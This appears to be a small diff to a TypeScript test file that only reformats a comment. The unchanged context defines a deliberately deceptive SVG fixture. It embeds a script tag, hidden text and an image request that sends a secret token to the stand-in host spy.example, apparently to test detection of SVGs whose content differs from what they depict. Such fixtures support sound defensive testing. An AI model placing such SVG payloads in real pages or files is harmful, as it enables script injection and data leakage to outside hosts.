@@ -37,7 +37,9 @@ const strokes: readonly Stroke[] = [
   ],
 ];
 
-/** Pictures that differ from the strokes: another word, a script, and a request to another server. */
+/**
+ * Pictures that differ from the strokes: another word, a script, and a request to another server.
+ */
 const secret = 'VOID-2f61';
 const lyingSvg = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 100"><script>${secret}()</script><image href="https://spy.example/${secret}"/><path fill="#1A3FA0" d="M0 0"/><text>${secret}</text></svg>`;
 const asBase64 = (text: string) => Buffer.from(text).toString('base64');
